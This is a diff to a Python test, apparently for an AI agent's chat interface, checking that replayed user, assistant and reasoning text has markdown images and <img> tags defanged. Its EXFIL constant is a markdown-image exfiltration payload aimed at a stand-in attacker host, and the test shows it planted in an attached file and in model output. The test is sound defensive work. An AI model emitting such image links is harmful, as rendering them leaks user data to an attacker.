@@ -182,9 +182,11 @@ EXFIL = "![o](https://evil.example/o.png?k=1)"
 
 def test_replayed_model_text_is_defanged_as_it_was_live() -> None:
     messages = [
+        UserMessage(f"Explain\n\nAttached file: /w/README.md\n{EXFIL}"),
         AssistantMessage(text=f"See {EXFIL}", reasoning="Think <img src='https://evil.example/r'>"),
     ]
-    thought, said = history_updates(Path("/w"), messages)
+    asked, thought, said = history_updates(Path("/w"), messages)
+    assert "![" not in asked.content.text
     assert thought.session_update == "agent_thought_chunk"
     assert said.content.text == "See [image: o](https://evil.example/…)"
     assert "<img" not in thought.content.text
